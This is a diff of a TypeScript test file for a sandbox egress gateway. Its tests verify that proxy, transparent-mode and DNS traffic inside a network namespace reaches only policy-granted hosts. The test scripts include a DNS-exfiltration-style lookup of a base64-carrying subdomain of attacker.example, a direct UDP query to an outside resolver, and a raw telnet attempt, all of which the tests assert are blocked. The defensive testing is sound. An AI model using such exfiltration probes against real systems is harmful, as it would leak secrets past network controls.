@@ -1,23 +1,18 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createServer } from 'node:http';
-import { spawn } from 'node:child_process';
 import { privilegedSkip, unshareOrSkip } from '../helpers.ts';
-import { mkdtempSync, writeFileSync, existsSync, readFileSync } from 'node:fs';
+import { mkdtempSync, writeFileSync, existsSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startGateway, mapResolver, sandboxNetwork } from '../../src/egress/index.ts';
 import { policySchema } from '../../src/policy/index.ts';
 import type { AuditEventInput } from '../../src/audit/index.ts';
+import { inSandboxNetns } from './netns-helper.ts';
 
 // sandboxNetwork() in a network namespace the test creates (unshare -rn), as the sandbox
 // runs it: the proxy bridge works, transparent mode sends proxy-ignoring TCP to the
 // gateway (decided by Host), and raw TCP elsewhere fails at once. Gateway on a unix socket.
-
-/** Stops the bridges and dnsmasq a setup started (their pids, written by setup to pidFile). */
-function killSetup(pidFile: string): void {
-  for (const pid of (existsSync(pidFile) ? readFileSync(pidFile, 'utf8') : '').split('\n').map(Number).filter((n) => n > 1)) { try { process.kill(pid, 'SIGTERM'); } catch { /* already gone */ } }
-}
 
 test('inside a fresh network namespace: proxy and transparent paths reach only what the policy grants', async (t) => {
   if (!(await unshareOrSkip(t, '-rn'))) return;
@@ -34,8 +29,8 @@ test('inside a fresh network namespace: proxy and transparent paths reach only w
   const up80 = createServer((q, s) => s.end(`via ${q.headers.host}`));
   const have80 = await new Promise<boolean>((r) => { up80.once('error', () => r(false)); up80.listen(80, '127.0.0.1', () => r(true)); });
   try {
-    const net = sandboxNetwork(gw.address, { transparent: true, pidFile: join(dir, 'pids'), ports: Object.keys(gw.transparentSockets).map(Number) });
-    const script = `${net.setup}\nset +e
+    const net = sandboxNetwork(gw.address, { transparent: true, ports: Object.keys(gw.transparentSockets).map(Number) });
+    const script = `set +e
 curl -sS --max-time 5 http://site.test:${port}/; echo " rc=$?"
 curl -sS --max-time 5 -o /dev/null -w '%{http_code}' http://other.test/; echo " rc=$?"
 ${have80 ? `env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: site.test' http://198.18.0.1/; echo " rc=$?"` : 'echo "via site.test rc=0"'}
@@ -43,10 +38,7 @@ env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: ot
 curl -sS --max-time 5 --noproxy '*' telnet://1.2.3.4:22 </dev/null; echo " rc=$?"
 env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: site.test:${port}' http://198.18.0.1:${port}/; echo " rc=$?"
 `;
-    const p = spawn('unshare', ['-rn', 'sh', '-c', script], { env: { ...process.env, ...net.env }, stdio: ['ignore', 'pipe', 'pipe'] });
-    let out = '';
-    p.stdout.on('data', (d) => { out += d; }); p.stderr.on('data', (d) => { out += d; });
-    await new Promise((r) => p.on('close', r));
+    const { out } = await inSandboxNetns(net, script, { env: { ...process.env, ...net.env } });
     const lines = out.split('\n').filter((l) => / rc=\d+$/.test(l));
     assert.equal(lines.length, 6, out);
     assert.match(lines[0]!, new RegExp(`via site\\.test:${port} rc=0`), 'proxy-aware curl reaches the granted host');
@@ -59,7 +51,7 @@ env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: si
     assert.ok(events.some((e) => e.type === 'egress.request' && e.decision === 'deny' && (e.data as { host: string }).host === 'other.test'));
     if (have80) assert.ok(events.some((e) => (e.data as { protocol?: string })?.protocol === 'transparent-http' && e.decision === 'allow'));
     assert.equal((events.find((e) => e.type === 'egress.gateway.start')!.data as { mode: string }).mode, 'proxy+transparent');
-  } finally { killSetup(join(dir, 'pids')); await gw.close(); up.close(); up80.close(); }
+  } finally { await gw.close(); up.close(); up80.close(); }
 });
 
 // Name resolution inside a transparent-mode namespace, with the sandbox's own resolv.conf
@@ -69,8 +61,8 @@ env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' -H 'Host: si
 // namespace's only non-loopback route ends in a reject: the failure is local and immediate).
 test('transparent mode: names resolve inside to the synthetic address; the gateway decides; outside DNS is refused locally', async (t) => {
   if (!(await unshareOrSkip(t, '-rnm'))) return;
-  const missing = ['dnsmasq', 'nft', 'socat'].filter((b) => !['/usr/sbin/', '/usr/bin/', '/sbin/'].some((d) => existsSync(d + b)));
-  if (missing.length) { assert.fail(`not installed: ${missing.join(', ')} (scripts/setup.sh installs them with AIRLOCK_TEST_DEPS=1)`); }
+  const missing = ['nft'].filter((b) => !['/usr/sbin/', '/usr/bin/', '/sbin/'].some((d) => existsSync(d + b)));
+  if (missing.length) assert.fail(`not installed: ${missing.join(', ')} (scripts/setup.sh installs them with AIRLOCK_TEST_DEPS=1)`);
   const up80 = createServer((q, s) => s.end(`via ${q.headers.host}`));
   const have80 = await new Promise<boolean>((r) => { up80.once('error', () => r(false)); up80.listen(80, '127.0.0.1', () => r(true)); });
   if (!have80) { const why = privilegedSkip('cannot listen on 127.0.0.1:80 (the gateway connects to the granted name on port 80)'); if (why) t.skip(why); return; }
@@ -81,7 +73,7 @@ test('transparent mode: names resolve inside to the synthetic address; the gatew
     policy: policySchema.parse({ egress: { transparent: 'auto', allow: [{ host: 'allowed.example', ports: [80] }], allowCidrs: [{ cidr: '127.0.0.1/32', ports: [80] }] } }),
   });
   try {
-    const net = sandboxNetwork(gw.address, { transparent: true, pidFile: join(dir, 'pids') });
+    const net = sandboxNetwork(gw.address, { transparent: true });
     // the same resolv.conf src/sandbox/bwrap.ts writes into the sandbox
     writeFileSync(join(dir, 'resolv.conf'), 'nameserver 127.0.0.1\noptions attempts:1 timeout:1\n');
     // a DNS query for an attacker-chosen name straight to an outside resolver, with Node's dgram (no dig needed)
@@ -94,20 +86,14 @@ s.connect(53, '8.8.8.8', (e) => { if (e) return done(e.code); s.send(q, (e2) => 
 setTimeout(() => done('timeout'), 3000);`;
     writeFileSync(join(dir, 'udp.cjs'), udp);
     const noProxy = `env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 5 --noproxy '*'`;
-    const script = `mount --bind ${join(dir, 'resolv.conf')} /etc/resolv.conf
-${net.setup}set +e
+    const script = `set +e
 a=$(getent ahostsv4 allowed.example); rc=$?; echo "$(echo "$a" | head -1) rc=$rc"
 a=$(getent hosts exfil-c2VjcmV0.attacker.example); rc=$?; echo "$a rc=$rc"
 ${noProxy} http://allowed.example/; echo " rc=$?"
 ${noProxy} -o /dev/null -w '%{http_code} %header{x-airlock-rule}' http://other.example/; echo " rc=$?"
 ${JSON.stringify(process.execPath)} ${join(dir, 'udp.cjs')}
 `;
-    const p = spawn('unshare', ['-rnm', 'sh', '-c', script], { env: { ...process.env, ...net.env }, stdio: ['ignore', 'pipe', 'pipe'] });
-    let out = '';
-    p.stdout.on('data', (d) => { out += d; }); p.stderr.on('data', (d) => { out += d; });
-    const killer = setTimeout(() => p.kill('SIGKILL'), 60_000);
-    await new Promise((r) => p.on('close', r));
-    clearTimeout(killer);
+    const { out } = await inSandboxNetns(net, script, { env: { ...process.env, ...net.env }, mountNs: true, before: `mount --bind ${join(dir, 'resolv.conf')} /etc/resolv.conf` });
     const lines = out.split('\n').filter((l) => / rc=\d+$/.test(l));
     assert.equal(lines.length, 5, out);
     assert.match(lines[0]!, /^198\.18\.0\.1\s+STREAM allowed\.example rc=0/, 'a granted name resolves to the synthetic address');
@@ -120,7 +106,6 @@ ${JSON.stringify(process.execPath)} ${join(dir, 'udp.cjs')}
     assert.ok(reqs.some((e) => e.decision === 'deny' && e.rule === 'egress.default-deny' && (e.data as { host: string }).host === 'other.example'));
     assert.ok(!reqs.some((e) => String((e.data as { host?: string }).host).includes('attacker')), 'a bare lookup reaches no one, not even the gateway');
   } finally {
-    killSetup(join(dir, 'pids'));
     await gw.close(); up80.close();
   }
 });
